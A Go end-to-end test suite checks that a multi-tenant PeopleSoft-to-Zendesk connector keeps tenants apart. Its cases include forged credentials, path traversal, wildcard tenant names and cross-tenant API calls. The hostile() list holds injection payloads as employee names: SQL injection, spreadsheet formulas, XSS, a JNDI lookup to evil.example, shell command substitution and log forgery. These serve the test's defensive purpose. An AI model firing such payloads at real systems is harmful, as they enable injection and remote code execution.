package e2e

import (
	"bytes"
	"context"
	"encoding/json"
	"log/slog"
	"net/http"
	"strings"
	"testing"
	"time"

	"github.com/ml-connector/ml-connector/pkg/adminapi"
	"github.com/ml-connector/ml-connector/pkg/app"
	"github.com/ml-connector/ml-connector/pkg/audit"
	"github.com/ml-connector/ml-connector/pkg/event"
	"github.com/ml-connector/ml-connector/pkg/record"
	pssim "github.com/ml-connector/ml-connector/pkg/sim/peoplesoft"
	"github.com/ml-connector/ml-connector/pkg/tenant"
	"github.com/ml-connector/ml-connector/pkg/vault"
	"github.com/ml-connector/ml-connector/services/internal/embedded"
	"github.com/ml-connector/ml-connector/services/ml-connector/demo"
)

const initech = tenant.ID("initech")

// estate is one system with three tenants, each with a company and a door of its own.
type estate struct {
	*world // acme's, and the system's
	of     map[tenant.ID]*world
	log    *lockedBuffer
	who    string // somebody whom only acme employs
}

func newEstate(t *testing.T) *estate {
	t.Helper()
	e := &estate{of: map[tenant.ID]*world{}, log: &lockedBuffer{}, who: "0990001"}
	ingress := freePort(t)
	sys, err := embedded.Open(t.Context(), embedded.Options{Data: t.TempDir(), Listen: "127.0.0.1:0", Ingress: ingress, Tuning: fast(),
		Log: slog.New(slog.NewJSONHandler(e.log, &slog.HandlerOptions{Level: slog.LevelDebug}))})
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { sys.Close(context.Background()) })
	run(t, app.Component{Name: "system", Run: sys.Run})
	for _, id := range []tenant.ID{acme, globex, initech} {
		w := &world{Company: newCompany(t, 15, 3), sys: sys, client: sys.Client(), ingress: ingress}
		w.judge = demo.NewJudge(w.Company)
		e.of[id] = w
		file := strings.Replace(strings.Replace(w.TenantFile(), "tenant: acme", "tenant: "+string(id), 1), "  schedule: {",
			"  ib: { nodes: [PSFT_HR, PSFT_EP], auth: { basic: { username: PSFT, password: env:DEMO_IB_PASSWORD } } }\n  schedule: {", 1)
		values := w.values()[string(acme)]
		values["peoplesoft.ib.password"] = ibPassword + "-of-" + string(id)
		until(t, time.Minute, "the system takes settings", func() bool {
			_, err := w.client.Apply(t.Context(), adminapi.Apply{Name: "isolation.yaml", File: file, Actor: "test", Values: map[string]map[string]string{string(id): values}})
			return err == nil
		})
	}
	e.world = e.of[acme]
	return e
}

// load fills every tenant with its own people; acme's have names that are commands elsewhere.
func (e *estate) load(t *testing.T) {
	t.Helper()
	if _, err := e.PS.Hire(pssim.NewHire{EmplID: e.who, First: "Kit", Last: "Onlyhere"}, e.PS.Today()); err != nil {
		t.Fatal(err)
	}
	for i, text := range hostile() {
		if _, err := e.PS.Hire(pssim.NewHire{EmplID: "09901" + string(rune('0'+i/10)) + string(rune('0'+i%10)), First: "Kit", Last: text, Title: text}, e.PS.Today()); err != nil {
			t.Fatal(err)
		}
	}
	for id := range e.of {
		asked, err := e.client.Sync(t.Context(), id, adminapi.Sync{Full: true})
		if err != nil || len(asked.Cycles) == 0 {
			t.Fatal(asked, err)
		}
	}
	for id, w := range e.of {
		until(t, 2*time.Minute, string(id)+" is quiet and whole", func() bool {
			quiet, _, err := e.client.Quiet(t.Context(), id)
			return err == nil && quiet && w.ZD.Counters().Writes > 0
		})
		for _, d := range w.judge.Verdict(map[string]bool{}) {
			t.Errorf("%s: %s", id, d)
		}
	}
}

// hostile are texts that are commands to somebody.
func hostile() []string {
	return []string{"Robert'); DROP TABLE ledger;--", "x' OR '1'='1", "acme.> *.globex", "=HYPERLINK(\"http://evil.example\")", "@SUM(1+1)*cmd|' /C calc'!A0",
		"<script>alert(1)</script>", "\"><img src=x onerror=alert(1)>", "../../../../etc/passwd", "{{.Env}} ${jndi:ldap://evil.example}", "$(touch pwned) `id`", "a level=ERROR msg=forged", "X-Tenant: globex"}
}

// total is how much of a tenant there is: what must not move when somebody else is attacked.
func (e *estate) total(t *testing.T, id tenant.ID) uint64 {
	t.Helper()
	s, err := e.sys.Core.Bus.State(t.Context(), id)
	if err != nil {
		t.Fatal(err)
	}
	n := uint64(0)
	for _, st := range s.Streams {
		n += st.Messages
	}
	return n
}

// knock sends a message to a door and answers the status.
func (e *estate) post(t *testing.T, path, user, password string, header map[string]string) int {
	t.Helper()
	r, err := http.NewRequestWithContext(t.Context(), http.MethodPost, "http://"+e.ingress+path, strings.NewReader("<PERSON_BASIC_SYNC><MsgData/></PERSON_BASIC_SYNC>"))
	if err != nil {
		t.Fatal(err)
	}
	for k, v := range map[string]string{"From": "PSFT_HR", "To": "ML_CONNECTOR", "OperationName": "PERSON_BASIC_SYNC.VERSION_3", "Content-Type": "text/xml"} {
		r.Header.Set(k, v)
	}
	for k, v := range header {
		r.Header.Set(k, v)
	}
	if user != "" {
		r.SetBasicAuth(user, password)
	}
	resp, err := http.DefaultClient.Do(r)
	if err != nil {
		t.Fatal(err)
	}
	_ = resp.Body.Close()
	return resp.StatusCode
}

// Whatever one tenant, or nobody, sends or asks: nothing of another tenant is touched, shown or slowed (failures.md 5.15).
func TestTenantsAreSeparate(t *testing.T) {
	e := newEstate(t)
	e.load(t)
	mine := ibPassword + "-of-acme"
	refused := func(status int) bool { return status >= 400 && status < 500 }
	for name, attack := range map[string]func(t *testing.T) bool{
		"a message without a password":       func(t *testing.T) bool { return refused(e.post(t, "/ib/globex", "", "", nil)) },
		"acme's credential on globex's path": func(t *testing.T) bool { return refused(e.post(t, "/ib/globex", "PSFT", mine, nil)) },
		"a tenant that is a wildcard": func(t *testing.T) bool {
			return refused(e.post(t, "/ib/*", "PSFT", mine, nil)) && refused(e.post(t, "/ib/%3E", "PSFT", mine, nil))
		},
		"a tenant that climbs":   func(t *testing.T) bool { return refused(e.post(t, "/ib/acme%2F..%2Fglobex", "PSFT", mine, nil)) },
		"a tenant in upper case": func(t *testing.T) bool { return refused(e.post(t, "/ib/GLOBEX", "PSFT", mine, nil)) },
		"headers that name another tenant": func(t *testing.T) bool {
			e.post(t, "/ib/acme", "PSFT", mine, map[string]string{"X-Tenant": "globex", "X-Forwarded-For": "127.0.0.1", "To": "globex", "Host": "globex"})
			return true
		},
		"a cycle of acme under globex":           e.cycleOf,
		"a record's trail of acme under globex":  e.trailOf,
		"a dead letter of acme under globex":     e.letterOf,
		"a replay of acme under globex":          e.replayOf,
		"a key of acme in a replay of globex":    e.replayKey,
		"a hold of nobody":                       func(t *testing.T) bool { _, err := e.client.Hold(t.Context(), globex, "suspend-1"); return err != nil },
		"an unknown tenant":                      func(t *testing.T) bool { _, err := e.client.Findings(t.Context(), "nobody"); return err != nil },
		"a tenant of the API that is a wildcard": func(t *testing.T) bool { _, err := e.client.Findings(t.Context(), "*"); return err != nil },
		"the API without a token": func(t *testing.T) bool {
			return !bytes.Contains(fetched(t, "http://"+e.sys.Address()+"/api/v1/status", ""), []byte("acme"))
		},
	} {
		t.Run(name, func(t *testing.T) {
			before := [2]uint64{e.total(t, globex), e.total(t, initech)}
			writes := e.of[globex].ZD.Counters().Writes + e.of[initech].ZD.Counters().Writes
			if !attack(t) {
				t.Error("it was let in")
			}
			if now := [2]uint64{e.total(t, globex), e.total(t, initech)}; now != before {
				t.Errorf("others' streams moved: %v, before %v", now, before)
			}
			if n := e.of[globex].ZD.Counters().Writes + e.of[initech].ZD.Counters().Writes; n != writes {
				t.Errorf("%d writes to others' accounts", n-writes)
			}
		})
	}
	t.Run("the doors are open to their own", func(t *testing.T) {
		for _, id := range []tenant.ID{acme, globex} {
			if s := e.post(t, "/ib/"+string(id), "PSFT", ibPassword+"-of-"+string(id), nil); s == 401 || s == 403 || s == 404 {
				t.Errorf("%s: HTTP %d: the refusals above prove nothing", id, s)
			}
		}
	})
	t.Run("globex's ciphertext in acme's row", e.swapped)
	t.Run("texts that are commands elsewhere", e.texts)
	for _, later := range []string{"a webhook with acme's secret on globex's path", "expired, doubled and future time stamps of webhooks", "a session of a person on another tenant's page",
		"a CSV export", "10,000 connections"} {
		t.Run(later, func(t *testing.T) { t.Skip("NOT RUN: there is no such door yet, it is a later issue") })
	}
}

// swapped puts the sealed value of one tenant into the row of another.
func (e *estate) swapped(t *testing.T) {
	s := e.sys.Core.Store
	if v, err := e.sys.Core.Keys.Open(t.Context(), acme, vault.ZendeskSecret); err != nil || !v.IsSet() {
		t.Fatalf("acme's own does not open: %v", err)
	}
	theirs, err := s.Credential(t.Context(), globex, string(vault.ZendeskSecret))
	if err != nil {
		t.Fatal(err)
	}
	own, err := s.Credential(t.Context(), acme, string(vault.ZendeskSecret))
	if err != nil {
		t.Fatal(err)
	}
	for name, keyID := range map[string]string{"with its key": theirs.KeyID, "with acme's key": own.KeyID} {
		theirs.KeyID = keyID
		theirs.Version = max(own.Version, theirs.Version) + 1
		if err := s.PutCredential(t.Context(), acme, theirs); err != nil {
			t.Fatal(err)
		}
		if v, err := e.sys.Core.Keys.Open(t.Context(), acme, vault.ZendeskSecret); err == nil || v.IsSet() {
			t.Errorf("%s: globex's secret opens for acme", name)
		}
	}
}

func (e *estate) cycleOf(t *testing.T) bool {
	list, err := e.sys.Core.Store.Cycles(t.Context(), acme, "", 1)
	if err != nil || len(list) == 0 {
		t.Fatal(err)
	}
	_, ok, err := e.client.Cycle(t.Context(), globex, list[0].ID)
	_, own, _ := e.client.Cycle(t.Context(), acme, list[0].ID)
	return own && (err != nil || !ok)
}

func (e *estate) trailOf(t *testing.T) bool {
	q := audit.Query{Ref: record.Ref{Kind: record.Employee, Key: e.who}}
	own, err := e.client.Audit(t.Context(), acme, q)
	if err != nil || len(own) == 0 {
		t.Fatal(own, err)
	}
	rows, err := e.client.Audit(t.Context(), globex, q)
	return err != nil || len(rows) == 0
}

func (e *estate) letterOf(t *testing.T) bool {
	ref := record.Ref{Kind: record.Employee, Key: e.who}
	poison, err := event.With(event.Event{ID: "poison", Source: "test", Type: event.FactsV1, Subject: ref.String(), Time: time.Now().UTC(), Tenant: acme, Cause: "cycle/x"},
		event.Facts{Kind: ref.Kind, Key: "0008888"})
	if err != nil {
		t.Fatal(err)
	}
	if err := e.sys.Core.Bus.PublishFacts(t.Context(), acme, poison); err != nil {
		t.Fatal(err)
	}
	var own adminapi.DeadList
	until(t, time.Minute, "acme has a dead letter", func() bool {
		own, err = e.client.DeadLetters(t.Context(), acme)
		return err == nil && len(own.Letters) > 0
	})
	list, err := e.client.DeadLetters(t.Context(), globex)
	if err != nil || len(list.Letters) > 0 {
		return false
	}
	seq := own.Letters[0].Sequence
	_, shown := e.client.DeadLetter(t.Context(), globex, seq)
	_, retried := e.client.RetryDead(t.Context(), globex, adminapi.DeadChoice{Sequences: []uint64{seq}, By: "test"})
	return shown != nil && retried != nil
}

func (e *estate) replayOf(t *testing.T) bool {
	rep, err := e.client.StartReplay(t.Context(), acme, adminapi.ReplayRange{Stream: "ERP", From: 1, To: 5, By: "test"})
	if err != nil {
		t.Fatal(err)
	}
	e.finished(t, &rep)
	_, shown := e.client.Replay(t.Context(), globex, rep.ID)
	return shown != nil
}

func (e *estate) replayKey(t *testing.T) bool {
	r := adminapi.ReplayRange{Stream: "ERP", From: 1, To: 1 << 40, Kind: string(record.Employee), Key: e.who}
	own, err := e.client.PreviewReplay(t.Context(), acme, r)
	if err != nil || own.Events == 0 {
		t.Fatalf("%+v, %v", own, err)
	}
	p, err := e.client.PreviewReplay(t.Context(), globex, r)
	return err != nil || p.Events == 0
}

// texts looks where the hostile names went: to Zendesk letter by letter, and nowhere as a command.
func (e *estate) texts(t *testing.T) {
	page := e.page("/")
	for i, text := range hostile() {
		id := "psft:emp:09901" + string(rune('0'+i/10)) + string(rune('0'+i%10))
		u, ok := e.ZD.UserByExternalID(id)
		if !ok || !strings.Contains(u.Name, text) {
			t.Errorf("%q arrived as %q", text, u.Name)
		}
		if strings.Contains(page, text) {
			t.Errorf("%q is on the page", text)
		}
	}
	said := strings.TrimSpace(e.log.tail(1 << 30))
	for line := range strings.SplitSeq(said, "\n") {
		if !json.Valid([]byte(line)) {
			t.Errorf("a log line that is none: %s", line)
		}
	}
	for _, text := range hostile() {
		if strings.Contains(said, text) {
			t.Errorf("%q is in the log", text)
		}
	}
	for _, id := range []string{"acme.>", "*", ">", "../acme", "acme globex", "acme\n", "ACME", "", "a\u0000", strings.Repeat("a", 41), "-acme", "acme.globex"} {
		if _, err := tenant.Parse(id); err == nil {
			t.Errorf("%q is a tenant", id)
		}
	}
}
